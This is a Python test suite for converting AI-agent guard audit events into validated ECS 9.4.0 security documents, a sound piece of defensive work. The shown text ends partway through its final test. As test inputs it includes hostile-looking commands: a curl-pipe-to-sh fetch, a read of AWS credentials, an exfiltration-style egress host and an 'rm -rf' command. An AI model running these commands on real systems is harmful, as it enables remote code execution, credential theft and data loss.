"""ECS 9.4.0 transform and its strict validator.

The validator is proven first (deliberately broken documents must be rejected, the reference example
accepted), then every real captured event and every hand-built shape must map to a document with zero
validator errors, with specific expectations per guard, action, decision and severity.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import tests.validators.ecs as ecs_validator
from agent.event import validate_event
from agent.mapping import MappingContext, MappingError, detect_kind, map_record, parse_line
from tests.shared_paths import FIXTURES, ROOT, SHARED
from tests.validators.ecs import validate_ecs
from transforms.ecs import ECS_VERSION, KEYWORD_LIMIT, MAX_ARGS, to_ecs

CTX = MappingContext(labels={"team": "security", "env": "prod"}, environment="production",
                     tenant_id="acme-corp", host_name="dev-laptop")
H = "989be150824a9c37647fbf29d2231d25ddf40a83e686f930de2a466d36b17f73"
SORT = orjson.OPT_SORT_KEYS


def ecs(ev: dict) -> dict:
    """Transform a valid canonical event and insist the document is valid ECS."""
    validate_event(ev)
    doc = to_ecs(ev)
    errors = validate_ecs(doc)
    assert errors == [], errors
    return doc


def audit(**kw: Any) -> dict:
    rec = {
        "id": "0194e1a2-7c3d-7b11-9f00-3c1d2e4f5a01",
        "timestamp": "2026-02-07T09:30:12.481516234Z",
        "event_type": "violation",
        "action_type": "file_access",
        "target": "/home/alice/.ssh/id_rsa",
        "decision": "blocked",
        "guard": "forbidden_path",
        "severity": "Critical",
        "message": "Access to forbidden path: /home/alice/.ssh/id_rsa",
        "session_id": "sess-0001",
        "agent_id": "agent-0001",
        "metadata": {"policy_hash": H, "principal": {"id": "alice"}},
    }
    rec.update(kw)
    return map_record({k: v for k, v in rec.items() if v is not None}, context=CTX)


def adapter(**kw: Any) -> dict:
    rec = {"id": "a-1", "type": "tool_call_blocked", "timestamp": "2026-02-07T09:30:12.481Z",
           "contextId": "ctx-1", "sessionId": "s-1", "toolName": "write_file"}
    rec.update(kw)
    return map_record({k: v for k, v in rec.items() if v is not None}, context=CTX)


def enc(doc: dict) -> bytes:
    return orjson.dumps(doc, option=SORT)


# ================================================================ the validator


def valid_doc() -> dict:
    return to_ecs(audit())


def test_reference_example_from_schemas_md_is_valid():
    """The validated example of shared/reference/schemas.md §2.4 passes the same rules here."""
    text = (SHARED / "reference" / "schemas.md").read_text()
    start = text.index('```json\n{"@timestamp": "2026-11-26T08:00:00.123Z"')
    example = json.loads(text[start + len("```json\n"):text.index("```", start + 7)])
    assert validate_ecs(example) == []


def test_our_base_document_is_valid():
    assert validate_ecs(valid_doc()) == []


def _set(doc: dict, dotted: str, value: Any) -> dict:
    *parents, last = dotted.split(".")
    node = doc
    for p in parents:
        node = node.setdefault(p, {})
    if value is _DELETE:
        del node[last]
    else:
        node[last] = value
    return doc


_DELETE = object()

BROKEN: list[tuple[str, str, Any, str]] = [
    # (case, dotted path, value, substring expected in some error)
    ("unknown top-level field", "session.id", "sess-1", "session.id: not an ECS 9.4.0 field"),
    ("unknown event field", "event.verdict", "deny", "event.verdict: not an ECS 9.4.0 field"),
    ("wrong type: long as string", "event.severity", "5", "event.severity: expected an integer"),
    ("wrong type: port as string", "destination.port", "443", "destination.port: expected an integer"),
    ("wrong type: float as string", "event.risk_score", "high", "event.risk_score: expected a number"),
    ("wrong type: keyword as int", "file.path", 42, "file.path: expected a string"),
    ("wrong type: boolean", "event.severity", True, "event.severity: expected an integer"),
    ("long out of range", "event.severity", 2**64, "event.severity: expected an integer"),
    ("non-array category", "event.category", "file", "event.category: expected an array"),
    ("non-array type", "event.type", "access", "event.type: expected an array"),
    ("array on a single-value field", "event.kind", ["alert"], "event.kind: expected a single value"),
    ("category not allowed", "event.category", ["file", "guard"], "'guard' is not an allowed value"),
    ("bad category/type pair", "event.type", ["access", "indicator"],
     "event.type: 'indicator' is not expected by any event.category"),
    ("signal kind", "event.kind", "signal", "'signal' is reserved"),
    ("unknown kind", "event.kind", "finding", "'finding' is not an allowed value"),
    ("outcome not allowed", "event.outcome", "blocked", "'blocked' is not an allowed value"),
    ("network.direction not expected", "network.direction", "sideways", "not an expected value"),
    ("indicator type not expected", "threat.indicator.type", "file_path", "not an expected value"),
    ("bad ip: a host name", "destination.ip", "evil.example", "destination.ip: expected an IPv4/IPv6"),
    ("bad ip: octet", "destination.ip", "999.1.1.1", "destination.ip: expected an IPv4/IPv6"),
    ("bad ip: scope id", "destination.ip", "fe80::1%eth0", "destination.ip: expected an IPv4/IPv6"),
    ("bad date: words", "@timestamp", "yesterday", "@timestamp: expected an RFC 3339 date"),
    ("bad date: month 13", "@timestamp", "2026-13-01T00:00:00Z", "@timestamp: expected an RFC 3339"),
    ("bad date: Feb 30", "@timestamp", "2026-02-30T00:00:00Z", "@timestamp: expected an RFC 3339"),
    ("bad date: leap second", "@timestamp", "2026-12-31T23:59:60Z", "@timestamp: expected an RFC 3339"),
    ("bad date: no zone", "@timestamp", "2026-02-07T09:30:12.481", "@timestamp: expected an RFC 3339"),
    ("bad date: epoch number", "@timestamp", 1770456612481, "@timestamp: expected an RFC 3339"),
    ("missing ecs.version", "ecs.version", _DELETE, "ecs.version: required field missing"),
    ("wrong ecs.version", "ecs.version", "8.17.0", "ecs.version: expected '9.4.0'"),
    ("missing @timestamp", "@timestamp", _DELETE, "@timestamp: required field missing"),
    ("nested labels", "labels.deep", {"er": "x"}, "labels.deep: labels values must be keyword"),
    ("numeric label", "labels.count", 3, "labels.count: expected a string"),
    ("null value", "user.id", None, "user.id: null value"),
    ("empty string", "user.id", "", "user.id: empty value"),
    ("empty array", "tags", [], "tags: empty value"),
    ("null inside clawdstrike", "clawdstrike.session.id", None, "clawdstrike.session.id: null value"),
    ("keyword beyond ignore_above", "file.path", "/" + "a" * 1024, "exceed ignore_above 1024"),
    ("object where a value belongs", "event.action", {"x": "y"}, "event.action: expected a string"),
    ("value where an object belongs", "event", "alert", "event: expected an object"),
    ("pattern", "host.mac", ["zz-zz"], "does not match"),
]


@pytest.mark.parametrize(("case", "path", "value", "expected"), BROKEN, ids=[b[0] for b in BROKEN])
def test_validator_rejects_broken_documents(case, path, value, expected):
    doc = _set(valid_doc(), path, value)
    errors = validate_ecs(doc)
    assert any(expected in e for e in errors), errors


def test_validator_rejects_type_without_category_and_bad_keys():
    doc = valid_doc()
    del doc["event"]["category"]
    assert any("'access' is not expected by any event.category []" in e for e in validate_ecs(doc))
    doc = valid_doc()
    doc["event"]["a..b"] = "x"
    assert any("invalid field name 'a..b'" in e for e in validate_ecs(doc))
    assert validate_ecs([]) == ["(document): expected a JSON object, got []"]


def test_validator_rejects_multi_fields_written_as_fields():
    doc = valid_doc()
    doc["file.path.text"] = "x"  # an index-side multi-field, not a document field
    assert any(e.startswith("file.path.text: not an ECS 9.4.0 field") for e in validate_ecs(doc))


def test_validator_rejects_a_field_given_twice():
    doc = valid_doc()
    doc["event.kind"] = "alert"  # also present nested
    assert any("event.kind: field given more than once" in e for e in validate_ecs(doc))


def test_validator_accepts_dotted_keys_nested_and_free_form_objects():
    doc = {"@timestamp": "2026-02-07T09:30:12.481+01:00", "ecs.version": "9.4.0",
           "event.kind": "event", "event.category": ["network"], "event.type": ["connection", "allowed"],
           "threat": {"enrichments": [{"indicator": {"type": "ipv4-addr", "ip": "198.51.100.7"}},
                                      {"indicator": {"type": "domain-name"}}]},
           "entity": {"raw": {"anything": {"goes": [1, 2]}}},
           "destination": {"geo": {"location": {"lat": 48.1, "lon": 11.6}}},
           "clawdstrike": {"x": [{"a": 1}, {"a": 2}]}}
    assert validate_ecs(doc) == []
    doc["threat"]["enrichments"][1]["indicator"]["bogus"] = "x"
    assert any("threat.enrichments.indicator.bogus: not an ECS" in e for e in validate_ecs(doc))


def test_validator_fails_rather_than_skips_without_the_data(monkeypatch, tmp_path):
    monkeypatch.setattr(ecs_validator, "ECS_FLAT", tmp_path / "missing" / "ecs_flat.json")
    with pytest.raises(FileNotFoundError, match=r"ECS 9\.4\.0 field set not found"):
        ecs_validator.load_schema.__wrapped__()


def test_validator_reads_the_official_field_set():
    schema = ecs_validator.load_schema()
    assert ecs_validator.ECS_FLAT.is_relative_to(ecs_validator.SCHEMAS)
    assert len(schema.fields) == 2605  # ECS 9.4.0 ships 2,605 fields (schemas.md §1)
    assert schema.expected_types["threat"] == frozenset({"indicator"})
    assert "gen_ai.tool.name" in schema.beta


# ================================================================ every real event


def _fixture_records() -> dict[str, list[bytes]]:
    """Every record in every fixture file that parses as a Clawdstrike shape, by file name."""
    found: dict[str, list[bytes]] = {}

    def collect(name: str, obj: Any) -> None:
        if isinstance(obj, dict):
            try:
                detect_kind(obj)
            except MappingError:
                for v in obj.values():
                    collect(name, v)
            else:
                found.setdefault(name, []).append(orjson.dumps(obj))
        elif isinstance(obj, list):
            for v in obj:
                collect(name, v)

    files = [p for p in FIXTURES.rglob("*") if p.is_file()] + [ROOT / "agent/data/sample-audit-forward.jsonl"]
    for path in sorted(files):
        text = path.read_text()
        if path.suffix == ".jsonl":
            lines = text.splitlines()
        elif path.suffix == ".json":
            lines = [text]
        else:  # the SSE capture: its data lines are JSON too
            lines = [ln[len("data: "):] for ln in text.splitlines() if ln.startswith("data: ")]
        for line in lines:
            if line.strip():
                collect(path.name, json.loads(line))
    return found


FIXTURE_RECORDS = _fixture_records()
FIXTURE_EVENTS = [(name, i, parse_line(raw, context=CTX))
                  for name, raws in sorted(FIXTURE_RECORDS.items()) for i, raw in enumerate(raws)]


def test_every_fixture_file_with_records_is_covered():
    counts = {name: len(v) for name, v in FIXTURE_RECORDS.items()}
    lines = (FIXTURES / "audit-forward.jsonl").read_text().splitlines()
    assert counts["audit-forward.jsonl"] == len([ln for ln in lines if ln.strip()]) == 23
    assert counts["audit-forward-webhook.requests.json"] == 23
    assert counts["audit-api.response.json"] == 24
    assert counts["sample-audit-forward.jsonl"] == 23
    assert len(FIXTURE_EVENTS) == sum(counts.values())


@pytest.mark.parametrize(("name", "index", "event"), FIXTURE_EVENTS,
                         ids=[f"{n}-{i}" for n, i, _ in FIXTURE_EVENTS])
def test_every_fixture_event_maps_to_valid_ecs(name, index, event):
    doc = ecs(event)
    assert doc["event"]["id"] == event["event_id"]
    assert doc["event"]["outcome"] == event["outcome"]
    assert doc["event"]["kind"] == ("alert" if event["decision"].get("allowed") is False
                                   or "guard" in event["decision"] else "event")


def test_fixture_coverage_of_guards_and_actions():
    seen = {(e["action"], e["decision"].get("guard"), e["outcome"]) for _, _, e in FIXTURE_EVENTS}
    for want in [("file_access", "forbidden_path", "failure"), ("egress", "egress_allowlist", "failure"),
                 ("file_write", "secret_leak", "failure"), ("patch", "patch_integrity", "failure"),
                 ("mcp_tool", "mcp_tool", "failure"), ("mcp_tool", "mcp_tool", "success"),
                 ("shell", None, "success"), ("session", None, "success")]:
        assert want in seen


# ================================================================ per guard / action / decision


def test_forbidden_path_read_deny():
    doc = ecs(audit())
    ev = doc["event"]
    assert ev["kind"] == "alert" and ev["outcome"] == "failure"
    assert ev["category"] == ["file", "intrusion_detection"] and ev["type"] == ["access", "denied"]
    assert ev["action"] == "file_access" and ev["code"] == "forbidden_path"
    assert ev["severity"] == 5 and ev["risk_score"] == 99.0
    assert ev["reason"] == doc["message"] == "Access to forbidden path: /home/alice/.ssh/id_rsa"
    assert doc["file"] == {"path": "/home/alice/.ssh/id_rsa", "name": "id_rsa",
                           "directory": "/home/alice/.ssh"}
    assert doc["rule"] == {"id": "forbidden_path", "name": "Forbidden path", "category": "filesystem"}
    assert doc["threat"] == {"indicator": {"type": "file", "name": "/home/alice/.ssh/id_rsa",
                                           "file": {"path": "/home/alice/.ssh/id_rsa"}}}
    assert doc["tags"] == ["clawdstrike", "guard-deny"]
    assert doc["user"] == {"id": "alice"} and doc["organization"] == {"id": "acme-corp"}
    assert doc["host"] == {"name": "dev-laptop"}
    assert doc["gen_ai"] == {"agent": {"id": "agent-0001"}}
    assert doc["labels"] == {"team": "security", "env": "prod"}
    cs = doc["clawdstrike"]
    assert cs["session"] == {"id": "sess-0001", "environment": "production"}
    assert cs["decision"] == {"allowed": False, "verdict": "deny"} and cs["guard"] == "forbidden_path"
    assert cs["policy"] == {"hash": "sha256:" + H} and cs["schema_version"] == "2.1.0"
    assert cs["source"] == {"kind": "hushd_audit", "id": "0194e1a2-7c3d-7b11-9f00-3c1d2e4f5a01",
                            "type": "violation"}
    assert json.loads(cs["metadata"]) == {"policy_hash": H, "principal": {"id": "alice"}}


@pytest.mark.parametrize(("action", "activity"), [("file_write", "change"), ("patch", "change")])
def test_file_write_and_patch_denies(action, activity):
    doc = ecs(audit(action_type=action, target="/workspace/app/.env"))
    assert doc["event"]["type"] == [activity, "denied"]
    assert doc["file"] == {"path": "/workspace/app/.env", "name": ".env", "directory": "/workspace/app"}


def test_secret_leak_and_patch_integrity_rules():
    doc = ecs(audit(action_type="file_write", target="src/keys.py", guard="secret_leak"))
    assert doc["event"]["code"] == "secret_detected"
    assert doc["rule"]["category"] == "secrets" and doc["file"]["extension"] == "py"
    doc = ecs(audit(action_type="patch", target="src/http.py", guard="patch_integrity"))
    assert doc["event"]["code"] == "patch_rejected" and doc["rule"]["name"] == "Patch integrity"


def test_egress_deny():
    doc = ecs(audit(action_type="egress", target="exfil.evil-example.net:8443", guard="egress_allowlist",
                    severity="Error", message="Egress to exfil.evil-example.net blocked by policy"))
    ev = doc["event"]
    assert ev["kind"] == "alert" and ev["outcome"] == "failure" and ev["severity"] == 4
    assert ev["risk_score"] == 73.0
    assert ev["category"] == ["network", "intrusion_detection"] and ev["type"] == ["connection", "denied"]
    assert doc["destination"] == {"address": "exfil.evil-example.net", "domain": "exfil.evil-example.net",
                                  "port": 8443}
    assert doc["url"] == {"domain": "exfil.evil-example.net", "port": 8443}
    assert doc["network"] == {"direction": "egress"}
    assert doc["threat"]["indicator"] == {"type": "domain-name", "name": "exfil.evil-example.net",
                                          "url": {"domain": "exfil.evil-example.net"}}
    assert "file" not in doc and "process" not in doc


def test_egress_to_ip_addresses():
    doc = ecs(audit(action_type="egress", target="[2001:DB8::1]:443", guard="egress_allowlist"))
    assert doc["destination"] == {"address": "2001:DB8::1", "ip": "2001:db8::1", "port": 443}
    assert doc["url"] == {"domain": "[2001:DB8::1]", "port": 443}
    assert doc["threat"]["indicator"]["ip"] == "2001:db8::1"
    assert doc["threat"]["indicator"]["type"] == "ipv6-addr"
    doc = ecs(audit(action_type="egress", target="198.51.100.7", guard="egress_allowlist"))
    assert doc["destination"] == {"address": "198.51.100.7", "ip": "198.51.100.7"}
    assert doc["threat"]["indicator"]["ip"] == "198.51.100.7"


def test_shell_allowed_and_denied():
    doc = ecs(audit(event_type="check", action_type="shell", target="ls -la /tmp", decision="allowed",
                    guard=None, severity="Info", message="Allowed"))
    assert doc["process"] == {"command_line": "ls -la /tmp", "args": ["ls", "-la", "/tmp"], "args_count": 3,
                              "name": "ls"}
    assert doc["event"]["category"] == ["process"] and doc["event"]["type"] == ["start"]
    assert doc["event"]["kind"] == "event" and "rule" not in doc
    cmd = "/usr/bin/curl -s 'https://x.example/a b' | sh"
    doc = ecs(audit(action_type="shell", target=cmd, guard="posture", severity="Error"))
    assert doc["process"]["args"] == ["/usr/bin/curl", "-s", "https://x.example/a b", "|", "sh"]
    assert doc["process"]["executable"] == "/usr/bin/curl" and doc["process"]["name"] == "curl"
    assert doc["event"]["category"] == ["process", "intrusion_detection"]
    assert doc["event"]["type"] == ["start", "denied"] and "threat" not in doc


def test_shell_split_never_raises():
    doc = ecs(audit(action_type="shell", target="echo 'unbalanced \\", guard="posture"))
    assert doc["process"]["args"] == ["echo", "'unbalanced", "\\"]  # whitespace fallback
    assert doc["process"]["command_line"] == "echo 'unbalanced \\"


def test_mcp_tool_deny_and_allow():
    doc = ecs(audit(action_type="mcp_tool", target="shell_exec", guard="mcp_tool", severity="Error",
                    message="Tool 'shell_exec' is blocked by policy"))
    assert doc["event"]["category"] == ["api", "intrusion_detection"] and doc["event"]["type"] == ["denied"]
    assert doc["gen_ai"] == {"operation": {"name": "execute_tool"}, "tool": {"name": "shell_exec"},
                             "agent": {"id": "agent-0001"}}
    assert doc["rule"]["id"] == "mcp_tool" and "threat" not in doc
    doc = ecs(audit(event_type="check", action_type="mcp_tool", target="read_file", decision="allowed",
                    severity="Info", message="Allowed"))
    assert doc["event"]["category"] == ["api"] and doc["event"]["type"] == ["allowed"]
    assert doc["gen_ai"]["tool"]["name"] == "read_file"


def test_allowed_is_an_event_with_success():
    doc = ecs(audit(event_type="check", decision="allowed", severity="Info", message="Allowed",
                    target="/home/alice/project/main.rs"))
    ev = doc["event"]
    assert ev["kind"] == "event" and ev["outcome"] == "success" and ev["severity"] == 1
    assert "risk_score" not in ev and ev["type"] == ["access"] and ev["category"] == ["file"]
    assert "rule" not in doc and "threat" not in doc and "guard" not in doc["clawdstrike"]
    assert doc["tags"] == ["clawdstrike", "allow"]
    assert doc["clawdstrike"]["decision"] == {"allowed": True, "verdict": "allow"}


def test_warn_is_an_alert_that_was_allowed():
    doc = ecs(audit(event_type="check", action_type="mcp_tool", target="git_push", decision="allowed",
                    guard="mcp_tool", severity="Warning", message="Tool 'git_push' requires confirmation"))
    ev = doc["event"]
    assert ev["kind"] == "alert" and ev["outcome"] == "success" and ev["code"] == "guard_warn"
    assert ev["type"] == ["allowed"] and "intrusion_detection" in ev["category"]
    assert ev["severity"] == 3 and ev["risk_score"] == 47.0
    assert doc["tags"] == ["clawdstrike", "guard-warn"]
    assert doc["clawdstrike"]["decision"] == {"allowed": True, "verdict": "warn"}
    doc = ecs(audit(event_type="check", action_type="egress", target="pastebin.com", decision="allowed",
                    guard="egress_allowlist", severity="Warning", message="Egress to pastebin.com logged"))
    assert doc["event"]["type"] == ["connection", "allowed"] and doc["event"]["kind"] == "alert"


@pytest.mark.parametrize("etype", ["session_start", "session_end"])
def test_session_start_and_end(etype):
    doc = ecs(audit(event_type=etype, action_type="session", decision="allowed", guard=None, severity=None,
                    target=None, message="Session", metadata=None,
                    session_id="66e5dbf3-192c-47c6-a19c-0b0b0278b3ff"))
    ev = doc["event"]
    assert ev["kind"] == "event" and ev["category"] == ["session"]
    assert ev["type"] == [etype.split("_")[1]] and ev["outcome"] == "success" and ev["severity"] == 1
    assert doc["clawdstrike"]["session"]["id"] == "66e5dbf3-192c-47c6-a19c-0b0b0278b3ff"
    assert doc["clawdstrike"]["observer"] == {"instance_id": "66e5dbf3-192c-47c6-a19c-0b0b0278b3ff"}
    assert doc["clawdstrike"]["resource"] == {"type": "session", "name": "hushd"}
    assert "metadata" not in doc["clawdstrike"]  # {} is omitted


@pytest.mark.parametrize(("raw", "number", "risk"), [
    ("Info", 1, None), ("low", 2, 21.0), ("Warning", 3, 47.0), ("Error", 4, 73.0), ("Critical", 5, 99.0),
])
def test_severity_numbers(raw, number, risk):
    doc = ecs(audit(severity=raw))
    assert doc["event"]["severity"] == number
    assert doc["event"].get("risk_score") == risk
    words = {1: "info", 2: "low", 3: "medium", 4: "high", 5: "critical"}
    assert doc["clawdstrike"]["severity"] == words[number]


ADMIN_TYPES = {
    "policy_reload": (["configuration"], ["change"]),
    "scoped_policy_deleted": (["configuration"], ["change"]),
    "rbac_role_created": (["iam"], ["creation"]),
    "rbac_role_updated": (["iam"], ["change"]),
    "rbac_role_deleted": (["iam"], ["deletion"]),
    "rbac_role_assigned": (["iam"], ["change"]),
    "user_session_created": (["authentication"], ["start"]),
    "user_session_terminated": (["authentication"], ["end"]),
    "session_posture_transition": (["session"], ["info"]),
    "webhook_okta": (["authentication"], ["info"]),
}


@pytest.mark.parametrize(("src", "want"), sorted(ADMIN_TYPES.items()))
def test_admin_and_daemon_records(src, want):
    doc = ecs(audit(event_type=src, action_type="session", decision="allowed", guard=None, severity=None,
                    target="role-x" if src.startswith("rbac") else None))
    assert (doc["event"]["category"], doc["event"]["type"]) == want
    assert doc["event"]["kind"] == "event"
    assert doc["clawdstrike"]["resource"]["name"]


def test_prompt_injection_guard_is_ai_intrusion_detection():
    doc = ecs(audit(action_type="custom", target="untrusted_text", guard="prompt_injection"))
    assert doc["event"]["category"] == ["configuration", "intrusion_detection"]
    assert doc["event"]["type"] == ["info", "denied"] and doc["rule"]["category"] == "ai"
    assert doc["clawdstrike"]["resource"] == {"type": "configuration", "name": "custom",
                                              "path": "untrusted_text"}
    assert doc["clawdstrike"]["event_category"] == "ai"


@pytest.mark.parametrize(("typ", "decision", "kind", "cats", "types"), [
    ("tool_call_blocked", {"denied": True, "guard": "mcp_tool"}, "alert", ["api", "intrusion_detection"],
     ["denied"]),
    ("tool_call_warning", {"warn": True, "guard": "mcp_tool"}, "alert", ["api", "intrusion_detection"],
     ["allowed"]),
    ("tool_call_allowed", {"allowed": True}, "event", ["api"], ["allowed"]),
    ("tool_call_start", None, "event", ["api"], ["start"]),
    ("tool_call_end", None, "event", ["api"], ["end"]),
    ("tool_call_error", None, "event", ["api"], ["end"]),
    ("output_sanitized", {"denied": True}, "alert", ["intrusion_detection"], ["denied"]),
    ("output_sanitized", None, "event", ["intrusion_detection"], ["info"]),
    ("prompt_security_prompt_injection",
     {"denied": True, "guard": "prompt_injection", "severity": "critical"}, "alert",
     ["intrusion_detection"], ["denied"]),
    ("prompt_security_jailbreak", {"status": "warn"}, "alert", ["intrusion_detection"], ["allowed"]),
    ("prompt_security_watermark", None, "alert", ["intrusion_detection"], ["info"]),
    ("session_start", None, "event", ["session"], ["start"]),
])
def test_adapter_shapes(typ, decision, kind, cats, types):
    doc = ecs(adapter(type=typ, decision=decision))
    assert (doc["event"]["kind"], doc["event"]["category"], doc["event"]["type"]) == (kind, cats, types)
    assert doc["observer"]["product"] == doc["event"]["provider"] == "clawdstrike-adapter"
    assert doc["clawdstrike"]["session"] == {"id": "s-1", "run_id": "ctx-1", "environment": "production"}


def test_openclaw_and_certification_and_v1_shapes():
    oc = {"id": "evt-1770456612481-x7k2", "timestamp": 1770456612481, "type": "network_egress",
          "resource": "[2001:db8::5]:443", "decision": "denied", "guard": "egress", "runId": "run-9"}
    doc = ecs(map_record(oc, context=CTX))
    assert doc["@timestamp"] == "2026-02-07T09:30:12.481Z" and doc["destination"]["ip"] == "2001:db8::5"
    assert doc["observer"]["product"] == "openclaw" and doc["clawdstrike"]["session"]["run_id"] == "run-9"
    cert = {"event": "violation.detected", "timestamp": "2026-02-07T09:30:12Z",
            "data": {"actionType": "file_write", "target": "./leak.txt", "guard": "secret_leak",
                     "severity": "critical", "sessionId": "sess-1", "agentId": "agent-1"}}
    doc = ecs(map_record(cert, context=CTX))
    assert doc["@timestamp"] == "2026-02-07T09:30:12.000Z" and doc["file"]["name"] == "leak.txt"
    assert doc["event"]["type"] == ["change", "denied"] and "id" not in doc["clawdstrike"]["source"]
    v1 = {"schema_version": "1.0.0", "event_id": "0194e1a2-7c3d-7b11-9f00-3c1d2e4f5a05",
          "event_type": "policy_allow", "event_category": "process", "timestamp": "2026-02-07T09:30:16Z",
          "agent": {"id": "hushd", "name": "hushd", "version": "0.1.0", "type": "clawdstrike"},
          "outcome": "success", "action": "shell", "threat": {},
          "decision": {"allowed": True, "guard": "engine", "severity": "info", "reason": "Allowed",
                       "ruleset": "Default"},
          "resource": {"type": "process", "name": "uname -a"}, "metadata": {}, "labels": {"team": "x"}}
    doc = ecs(map_record(v1, context=CTX))
    assert doc["observer"]["version"] == "0.1.0" and doc["rule"] == {"ruleset": "Default"}
    assert doc["process"]["name"] == "uname" and "gen_ai" not in doc


def test_ecs_agent_is_the_shipper_and_observer_the_reporter():
    doc = ecs(audit())
    assert doc["agent"]["type"] == "clawd-agent" and doc["agent"]["name"] == "clawd-agent"
    assert doc["observer"] == {"vendor": "Backbay Labs", "product": "hushd", "type": "agent-guard",
                               "hostname": "dev-laptop"}
    assert doc["ecs"] == {"version": ECS_VERSION} == {"version": "9.4.0"}
    assert doc["event"]["module"] == "clawdstrike" and doc["event"]["provider"] == "hushd"
    assert "created" not in doc["event"] and "ingested" not in doc["event"]  # no clock values


def test_unknowns_are_omitted():
    ev = map_record({"id": "evt-1", "timestamp": 1770456612481, "type": "file_read", "resource": "/x",
                     "decision": "allowed"}, context=MappingContext())
    doc = ecs(ev)
    for absent in ("host", "user", "organization", "labels", "rule", "threat", "gen_ai"):
        assert absent not in doc
    assert "hostname" not in doc["observer"] and "session" not in doc["clawdstrike"]


# ================================================================ MITRE -> threat.*


def with_mitre(mitre: dict, **kw: Any) -> dict:
    ev = audit(**kw)
    ev["mitre"] = mitre
    return ev


def test_mitre_attack_sub_technique():
    doc = ecs(with_mitre({"framework": "attack", "tactic": {"id": "TA0006", "name": "Credential Access"},
                          "technique": {"id": "T1552.001",
                                        "name": "Unsecured Credentials: Credentials In Files"}}))
    assert doc["threat"] == {
        "framework": "MITRE ATT&CK",
        "tactic": {"id": ["TA0006"], "name": ["Credential Access"],
                   "reference": ["https://attack.mitre.org/tactics/TA0006/"]},
        "technique": {"id": ["T1552"], "name": ["Unsecured Credentials"],
                      "reference": ["https://attack.mitre.org/techniques/T1552/"],
                      "subtechnique": {"id": ["T1552.001"], "name": ["Credentials In Files"],
                                       "reference": ["https://attack.mitre.org/techniques/T1552/001/"]}},
        "indicator": {"type": "file", "name": "/home/alice/.ssh/id_rsa",
                      "file": {"path": "/home/alice/.ssh/id_rsa"}},
    }


def test_mitre_attack_technique_on_an_allowed_event():
    doc = ecs(with_mitre({"framework": "attack", "tactic": {"id": "TA0002", "name": "Execution"},
                          "technique": {"id": "T1059", "name": "Command and Scripting Interpreter"}},
                         event_type="check", action_type="shell", target="bash -c id", decision="allowed",
                         guard=None, severity="Info"))
    assert doc["threat"]["technique"] == {"id": ["T1059"], "name": ["Command and Scripting Interpreter"],
                                          "reference": ["https://attack.mitre.org/techniques/T1059/"]}
    assert "indicator" not in doc["threat"]


def test_mitre_atlas_technique_and_sub_technique():
    doc = ecs(with_mitre({"framework": "atlas", "tactic": {"id": "AML.TA0005", "name": "Execution"},
                          "technique": {"id": "AML.T0051", "name": "LLM Prompt Injection"}},
                         action_type="custom", target="untrusted_text", guard="prompt_injection"))
    assert doc["threat"] == {
        "framework": "MITRE ATLAS",
        "tactic": {"id": ["AML.TA0005"], "name": ["Execution"],
                   "reference": ["https://atlas.mitre.org/tactics/AML.TA0005"]},
        "technique": {"id": ["AML.T0051"], "name": ["LLM Prompt Injection"],
                      "reference": ["https://atlas.mitre.org/techniques/AML.T0051"]},
    }
    doc = ecs(with_mitre({"framework": "atlas", "tactic": {"id": "AML.TA0005", "name": "Execution"},
                          "technique": {"id": "AML.T0051.000", "name": "LLM Prompt Injection: Direct"}},
                         action_type="custom", target="untrusted_text", guard="prompt_injection"))
    assert doc["threat"]["technique"] == {
        "id": ["AML.T0051"], "name": ["LLM Prompt Injection"],
        "reference": ["https://atlas.mitre.org/techniques/AML.T0051"],
        "subtechnique": {"id": ["AML.T0051.000"], "name": ["Direct"],
                         "reference": ["https://atlas.mitre.org/techniques/AML.T0051.000"]}}


@pytest.mark.parametrize("mitre", [
    {"framework": "other", "technique": {"id": "X1"}},
    {"tactic": {"id": "TA0001"}},
    {"framework": "attack", "tactic": "TA0001", "technique": ["T1"]},
    {"framework": ["unhashable"], "tactic": {"id": {"x": 1}}},
    {"framework": "attack", "technique": {"id": "T1552.001"}},  # no name at all
    {},
])
def test_malformed_mitre_never_raises_and_stays_valid(mitre):
    # The canonical schema (2.1.0) refuses a malformed mitre, so this is the transform's own defence
    # against a hand-made or foreign event: never raise, stay valid ECS.
    doc = to_ecs(with_mitre(mitre))
    assert ecs_validator.validate_ecs(doc) == []
    assert doc["threat"]["indicator"]["type"] == "file"
    assert "framework" not in doc["threat"] or doc["threat"]["framework"].startswith("MITRE ")


# ================================================================ determinism and isolation


def test_same_event_gives_identical_bytes():
    for _, _, ev in FIXTURE_EVENTS:
        before = enc(ev)
        a, b = enc(to_ecs(ev)), enc(to_ecs(copy.deepcopy(ev)))
        assert a == b
        assert enc(ev) == before  # the canonical event is not modified
    shuffled = dict(reversed(list(audit().items())))
    assert enc(to_ecs(shuffled)) == enc(to_ecs(audit()))


def test_documents_share_no_mutable_state():
    ev = with_mitre({"framework": "attack", "tactic": {"id": "TA0006", "name": "Credential Access"},
                     "technique": {"id": "T1552.001", "name": "Unsecured Credentials: Credentials In Files"}},
                    action_type="shell", target="cat ~/.aws/credentials", guard="posture")
    first = enc(to_ecs(ev))
    doc = to_ecs(ev)
    doc["event"]["category"].append("x")
    doc["threat"]["tactic"]["id"].append("x")
    doc["threat"]["technique"]["subtechnique"]["id"].clear()
    doc["process"]["args"].append("x")
    doc["agent"]["name"] = "x"
    doc["tags"].append("x")
    assert enc(to_ecs(ev)) == first


# ================================================================ hostile input


def test_hostile_strings_still_validate():
    huge = "Ω" * 100000
    ev = audit(target="/tmp/evil\nname\u202e\x00.txt" + huge, message="line1\nline2 | = \\ \u2603" * 500,
               agent_id="agent\n" + "x" * 5000, session_id="s\r\n" * 700)
    ev["labels"] = {"a.b": "dotted key", "empty": "", "long": "v" * 5000, "uni": "ü🙂"}
    ev["metadata"] = {"big": 2**80, "deep": {"a": [{"b": None}] * 3}, "s": "\u0000\uffff"}
    ev["observer"]["version"] = "1" * 3000
    ev["decision"]["ruleset"] = "r" * 3000
    doc = ecs(ev)
    assert len(doc["file"]["path"]) == KEYWORD_LIMIT and len(doc["file"]["name"]) <= KEYWORD_LIMIT
    assert doc["labels"] == {"a_b": "dotted key", "long": "v" * KEYWORD_LIMIT, "uni": "ü🙂"}
    assert json.loads(doc["clawdstrike"]["metadata"])["big"] == 2**80  # JSON has no integer limit
    assert doc["message"].startswith("line1\nline2")  # message (match_only_text) is not cut

    cmd = "rm -rf " + " ".join(f"'arg {i}'" for i in range(2000)) + " " + "z" * 5000
